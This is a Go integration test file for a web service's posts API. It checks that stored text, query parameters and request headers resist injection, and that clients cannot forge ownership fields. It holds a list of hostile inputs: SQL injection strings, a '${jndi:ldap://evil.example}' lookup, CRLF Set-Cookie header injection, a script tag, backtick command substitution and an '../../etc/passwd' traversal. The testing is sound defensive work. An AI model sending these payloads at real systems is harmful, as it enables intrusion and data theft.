package integration_test

import (
	"net/http"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/neuroglia-go/neuroglia/data/query"
	"github.com/neuroglia-go/neuroglia/hosting/hosttest"
	"github.com/neuroglia-go/neuroglia/internal/testenv"
	"github.com/neuroglia-go/neuroglia/samples/auth/application/content"
)

// hostile are texts that mean something to a database, a header, a page or a shell.
var hostile = []string{
	"'; DROP TABLE posts; --", `" OR ""="`, "' OR '1'='1", "1; SELECT pg_sleep(10)", `\'; DELETE FROM users; --`, "%' ESCAPE '\\",
	"$1", "${jndi:ldap://evil.example}", "a\r\nSet-Cookie: admin=1", "<script>alert(1)</script>", "`id`", "../../etc/passwd", "{\"$ne\":null}",
}

func TestHostileTextIsOnlyText(t *testing.T) {
	t.Parallel()
	for name, url := range map[string]func(t *testing.T) string{
		"sqlite":   func(t *testing.T) string { return "sqlite:" + filepath.Join(t.TempDir(), "test.db") },
		"postgres": func(t *testing.T) string { return testenv.Postgres(t) },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			app := serve(t, "AUTH_DATABASE_URL", url(t))
			bearer := register(t, app, "ada.lovelace")
			for _, text := range hostile {
				answer := app.Post("/v1/posts", object{"text_content": text}).Header("Authorization", bearer).Expect(http.StatusCreated)
				var got content.PostDTO
				app.Get(answer.Header("Location")).Header("Authorization", bearer).Expect(http.StatusOK).JSON(&got)
				require.Equal(t, text, got.TextContent)

				var list content.List[content.PostDTO]
				app.Get("/v1/posts").Query("owner_id", text).Header("Authorization", bearer).Expect(http.StatusOK).JSON(&list)
				require.Zero(t, list.Total, text)
				app.Get("/v1/posts").Query("sort_field", text).Header("Authorization", bearer).Expect(http.StatusBadRequest).Problem("invalid_sort_field")
			}
			posts, err := hosttest.Resolve[content.Posts](app).Find(t.Context(), query.All().Limit(1))
			require.NoError(t, err)
			require.Equal(t, len(hostile), posts.Total, "everything is still there")
		})
	}
}

func TestNoHeaderOfAnAnswerIsWrittenByTheCaller(t *testing.T) {
	t.Parallel()
	app := serve(t)
	for _, header := range []string{"X-Request-Id", "X-Correlation-Id", "Traceparent", "Authorization", "Cookie", "Origin", "X-Forwarded-For", "X-Forwarded-Proto"} {
		answer := app.Get("/v1/posts").Header(header, "a\r\nSet-Cookie: admin=1").Send()
		for name, values := range answer.Headers {
			require.NotEqual(t, "Set-Cookie", name, header)
			require.NotContains(t, strings.Join(values, ""), "admin=1", "%s comes back in %s", header, name)
		}
	}
}

func TestAPostIsThatOfWhoWritesIt(t *testing.T) {
	t.Parallel()
	app := serve(t)
	bearer := register(t, app, "ada.lovelace")
	const other = "00000000-0000-7000-8000-000000000001"
	app.Post("/v1/posts", object{"text_content": "x", "owner_id": other, "id": other, "created_at": "2001-01-01T00:00:00Z"}).Header("Authorization", bearer).Send()
	write(t, app, bearer)
	posts, err := hosttest.Resolve[content.Posts](app).Find(t.Context(), query.All())
	require.NoError(t, err)
	require.NotEmpty(t, posts.Items)
	for _, post := range posts.Items {
		require.NotEqual(t, other, post.State().OwnerID)
		require.NotEqual(t, other, post.ID())
		require.NotEqual(t, 2001, post.State().CreatedAt.Year())
	}
}
